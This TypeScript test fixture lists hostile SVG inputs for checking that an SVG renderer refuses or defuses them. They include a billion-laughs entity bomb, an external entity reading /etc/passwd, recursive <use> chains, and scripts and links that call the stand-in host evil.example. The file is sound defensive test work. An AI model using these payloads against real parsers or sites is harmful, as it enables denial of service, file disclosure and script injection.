const SVG =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"';
const RED = '<rect width="100" height="100" fill="red"/>';
const file = (inside: string, attributes = "") => `<svg ${SVG} ${attributes}>${inside}</svg>`;

const laughs = (): string => {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`);
  return `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities.join("")}]>${file(`<desc>&e9;</desc>${RED}`)}`;
};

const doubling = (): string => {
  const groups = Array.from({ length: 30 }, (_, at) => {
    const use = `<use href="#g${at}"/>`;
    return `<g id="g${at + 1}">${use}${use}</g>`;
  });
  return file(`<defs><g id="g0">${RED}</g>${groups.join("")}</defs><use href="#g30"/>`);
};

const repeated = (count: number, element: string) => file(element.repeat(count));

/** Each SVG is either refused with the given message or has a red square in its middle. */
export const HOSTILE_SVGS = {
  refused: [
    ["entities that grow to a billion", laughs, /declares entities/],
    [
      "an entity that is a file",
      () => `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${file(`<desc>&x;</desc>${RED}`)}`,
      /declares entities/,
    ],
    ["an entity that nobody declares", () => file(`<desc>&x;</desc>${RED}`), /cannot be read/],
    ["uses that double thirty times", doubling, /too complex/],
    ["a use of itself", () => file('<g id="a"><use href="#a"/></g>'), /too complex/],
    ["two uses of each other", () => file('<use id="a" href="#b"/><use id="b" href="#a"/>'), /too complex/],
    ["6,000 elements", () => repeated(6000, '<rect width="1" height="1"/>'), /too complex/],
    ["100 elements deep", () => file("<g>".repeat(100) + RED + "</g>".repeat(100)), /too complex/],
    ["a path of 60,000 points", () => file(`<path d="M0 0${"L9 9".repeat(60_000)}"/>`), /too complex/],
    [
      "4,000 shapes over all of it",
      () => repeated(4000, '<rect width="100" height="100" fill="#f00"/>'),
      /too complex/,
    ],
    [
      "lines up and down, 20,000 times",
      () => file(`<path d="M0 0${"V100V0".repeat(20_000)}"/>`),
      /too complex/,
    ],
    [
      "dashes without end",
      () => file('<path stroke="red" stroke-dasharray="1e-6" d="M0 0H100"/>'),
      /too complex/,
    ],
    ["600 kB", () => file(`<desc>${"a".repeat(600_000)}</desc>${RED}`), /too complex/],
    ["a file that breaks off", () => file(RED).slice(0, -8), /cannot be read/],
    ["elements that cross", () => file("<g><a></g></a>"), /cannot be read/],
    [
      "another root",
      () => `<html xmlns="http://www.w3.org/1999/xhtml">${file(RED)}</html>`,
      /cannot be read/,
    ],
    ["no namespace", () => `<svg viewBox="0 0 9 9">${RED}</svg>`, /cannot be read/],
  ] as [string, () => string, RegExp][],
  harmless: [
    ["a script", () => file(`<script>fetch("http://evil.example")</script>${RED}`)],
    ["a script behind a link", () => file(`<script xlink:href="http://evil.example/a.js"/>${RED}`)],
    ["handlers of events", () => file(`<g onclick="evil()">${RED}</g>`, 'onload="evil()"')],
    ["a link", () => file(`<a xlink:href="javascript:evil()">${RED}</a>`)],
    ["a style sheet elsewhere", () => `<?xml-stylesheet href="http://evil.example/a.css"?>${file(RED)}`],
    [
      "a document type of a server",
      () => `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">${file(RED)}`,
    ],
    [
      "elements of other kinds",
      () =>
        file(
          `<metadata><rdf xmlns="http://evil.example/"><a/></rdf></metadata><p xmlns="http://www.w3.org/1999/xhtml">evil</p>${RED}`,
        ),
    ],
    [
      "what is animated",
      () =>
        file(
          `<rect width="100" height="100" fill="red"><animate attributeName="href" to="http://evil.example"/><set attributeName="fill" to="#000"/></rect>`,
        ),
    ],
    [
      "text and pictures that are not shown",
      () =>
        file(
          `<defs><text>evil</text><image href="http://evil.example/a.png"/></defs>${RED}<g display="none"><text>evil</text></g>`,
        ),
    ],
    [
      "names of attributes that objects have",
      () => file(`<g __proto__="evil" constructor="evil">${RED}</g>`),
    ],
    [
      "a title that closes elements",
      () => file(`<title>&lt;/title>&lt;script>evil()&lt;/script></title>${RED}`),
    ],
  ] as [string, () => string][],
};
